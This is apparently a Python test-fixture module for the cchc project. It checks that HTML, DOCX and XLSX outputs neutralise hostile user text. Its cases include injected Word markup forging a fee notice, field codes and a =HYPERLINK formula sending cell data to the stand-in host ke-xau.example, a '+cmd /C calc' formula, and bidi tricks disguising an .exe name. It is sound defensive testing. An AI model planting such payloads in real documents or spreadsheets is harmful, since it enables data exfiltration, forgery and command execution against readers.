"""Hostile text with the text each field must then show (issue 14): the corpus, and readers of what cchc
writes (HTML, DOCX, XLSX) that check a document is well formed before they say what it shows.

Each case says what a person or a file types and, written by hand, what the documented normalisation
(docs/security.md) makes of it in a one-line field (a name, an address, a procedure name) and in a field that
allows lines (a request, a note, a reason, an explanation).
"""

import html
import io
import zipfile
from dataclasses import dataclass

import openpyxl
from lxml import etree


@dataclass(frozen=True)
class Case:
    id: str
    typed: str
    line: str
    lines: str

    def fit(self, limit: int) -> "Case":
        """The case cut to a field's length. Only cases that normalisation leaves as they are run longer than
        200 characters, so cutting the typed and the expected text alike stays exact."""
        if len(self.typed) <= limit:
            return self
        assert self.typed == self.line == self.lines, self.id
        return Case(self.id, self.typed[:limit], self.line[:limit], self.lines[:limit])


def same(case_id: str, text: str) -> Case:
    return Case(case_id, text, text, text)


FORGED = "HẸN TRẢ KẾT QUẢ: 01/01/2020 - ĐÃ NỘP PHÍ 5.000.000 ĐỒNG"
WORDML = (
    'x</w:t></w:r></w:p><w:p><w:r><w:rPr><w:b/><w:color w:val="FF0000"/></w:rPr>'
    f"<w:t>{FORGED}</w:t></w:r></w:p><w:p><w:r><w:t>"
)
C0 = "".join(map(chr, range(1, 32)))  # every C0 control but NUL, which is refused (test_forms.py)
C1 = "".join(map(chr, range(0x80, 0xA0)))

CASES = [
    same("markup", "Tổ 5 & 6, xóm <Bắc> \"Đông\" 'Tây' &amp; <![CDATA[x]]>"),
    same("wordml", WORDML),
    same(
        "field-code",
        'INCLUDEPICTURE "http://ke-xau.example/a.png" \\d <w:fldSimple w:instr="INCLUDEPICTURE '
        'http://ke-xau.example/b.png"/><w:instrText>HYPERLINK "http://ke-xau.example"</w:instrText>',
    ),
    same("jinja", "{{ 7*7 }} {% if true %}có{% endif %} {# chú thích #} {{ request }}"),
    same("equals", '=HYPERLINK("http://ke-xau.example/?d="&A1,"Bấm vào đây")'),
    same("plus", "+cmd /C calc"),
    same("minus", "-2+3"),
    same("at", "@SUM(1+1)"),
    # tab → space; LF, VT (Word's Shift+Enter), FF, CR, the three separators and NEL → a line break (8 of
    # them); every other control is dropped.
    Case("controls", f"Nguyễn{C0}\x7f{C1}Văn", "Nguyễn" + " " * 9 + "Văn", "Nguyễn " + "\n" * 8 + "Văn"),
    Case(
        "line-breaks",
        "Dòng một\r\nDòng hai\x0bDòng ba\u2028Dòng bốn\rDòng năm",
        "Dòng một Dòng hai Dòng ba Dòng bốn Dòng năm",
        "Dòng một\nDòng hai\nDòng ba\nDòng bốn\nDòng năm",
    ),
    Case(
        "bidi",
        "Nguyễn\u202aA\u202bB\u202cC\u202dD\u202eE\u2066F\u2067G\u2068H\u2069.exe",
        "NguyễnABCDEFGH.exe",
        "NguyễnABCDEFGH.exe",
    ),
    Case("nfd", "Nguye\u0302\u0303n Va\u0306n A\u0300nh", "Nguyễn Văn Ành", "Nguyễn Văn Ành"),
    same("long", "Ă" * 10_000),
]
IDS = [case.id for case in CASES]
FORMULA_STARTS = ("=", "+", "-", "@")


def in_cell(text: str) -> str:
    """The text as a workbook cell holds it: text a spreadsheet would read as a formula starts with '."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def body(response) -> bytes:
    assert response.status_code == 200, response.status_code
    return b"".join(response.streaming_content) if response.streaming else response.content


def _parts(content: bytes) -> dict[str, etree._Element]:
    """Every XML part of an Office file, parsed strictly (no recovery, no entities, no network): a part that
    does not parse fails the test here."""
    parser = etree.XMLParser(recover=False, resolve_entities=False, no_network=True)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert archive.testzip() is None
        return {
            name: etree.fromstring(archive.read(name), parser)
            for name in archive.namelist()
            if name.endswith((".xml", ".rels"))
        }


W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"


def docx_paragraphs(content: bytes) -> list[str]:
    """The text of every paragraph of a Word document (a line break as \\n), after checking that every part
    parses and that no part holds a field (``fldSimple``/``instrText``): cchc's documents have none, so one
    would come from user text."""
    parts = _parts(content)
    for name, root in parts.items():
        fields = [e.tag for e in root.iter() if e.tag in (f"{W}fldSimple", f"{W}instrText", f"{W}fldChar")]
        assert fields == [], f"{name}: {fields}"
    paragraphs = []
    for paragraph in parts["word/document.xml"].iter(f"{W}p"):
        pieces = []
        for element in paragraph.iter():
            if element.tag == f"{W}t":
                pieces.append(element.text or "")
            elif element.tag == f"{W}br":
                pieces.append("\n")
            elif element.tag == f"{W}tab":
                pieces.append("\t")
        paragraphs.append("".join(pieces))
    return paragraphs


def xlsx_texts(content: bytes) -> list[str]:
    """Every text cell of every sheet, after checking that every part parses."""
    _parts(content)
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [c.value for s in book.worksheets for r in s.iter_rows() for c in r if isinstance(c.value, str)]


def missing_in_docx(content: bytes, expected: list[str]) -> list[str]:
    """The expected texts no single paragraph holds (a text split over paragraphs was injected markup)."""
    paragraphs = docx_paragraphs(content)
    return [text[:60] for text in expected if not any(text in p for p in paragraphs)]


def missing_in_xlsx(content: bytes, expected: list[str]) -> list[str]:
    texts = xlsx_texts(content)
    return [text[:60] for text in expected if not any(in_cell(text) in t for t in texts)]


def missing_in_html(content: bytes, expected: list[str]) -> list[str]:
    page = content.decode()
    return [text[:60] for text in expected if html.escape(text) not in page]
